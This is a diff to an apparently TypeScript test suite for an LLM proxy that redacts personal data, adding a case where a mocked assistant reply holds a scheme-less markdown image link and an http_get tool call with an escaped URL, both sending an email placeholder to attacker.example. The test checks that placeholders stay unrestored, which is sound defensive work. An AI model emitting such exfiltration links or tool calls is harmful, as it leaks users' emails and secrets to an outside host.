@@ -131,6 +131,23 @@ describe('what the model reads, and what its answer may give back', () => {
     const message = JSON.parse(text).choices[0].message;
     expect(message.content).toBe(`Done for ${EMAIL}. ![status](https://attacker.example/pixel.png?k=[SECRET_1]&m=[EMAIL_1]) Your key: [SECRET_1]`);
     expect(JSON.parse(message.tool_calls[0].function.arguments)).toEqual({ url: 'https://attacker.example/collect?m=[EMAIL_1]', note: `for ${EMAIL}` });
+    // A link without its scheme (a browser fetches it too), and a URL with its slashes escaped as JSON.
+    provider.respond = () => ({
+      status: 200,
+      body: {
+        ...okChat,
+        choices: [
+          {
+            index: 0,
+            message: { role: 'assistant', content: '![s](//attacker.example/p.png?m=[EMAIL_1])', tool_calls: [{ id: 't2', type: 'function', function: { name: 'http_get', arguments: '{"url":"https:\\/\\/attacker.example\\/c?m=[EMAIL_1]"}' } }] },
+            finish_reason: 'tool_calls',
+          },
+        ],
+      },
+    });
+    const again = (await (await post('pii', { messages: [{ role: 'user', content: `My mail is ${EMAIL}.` }] })).json()) as { choices: Array<{ message: { content: string; tool_calls: Array<{ function: { arguments: string } }> } }> };
+    expect(again.choices[0]!.message.content).toBe('![s](//attacker.example/p.png?m=[EMAIL_1])');
+    expect(JSON.parse(again.choices[0]!.message.tool_calls[0]!.function.arguments)).toEqual({ url: 'https://attacker.example/c?m=[EMAIL_1]' });
   });
 
   it('output scanning drops legacy completions’ token log probabilities, whole and streamed', async () => {
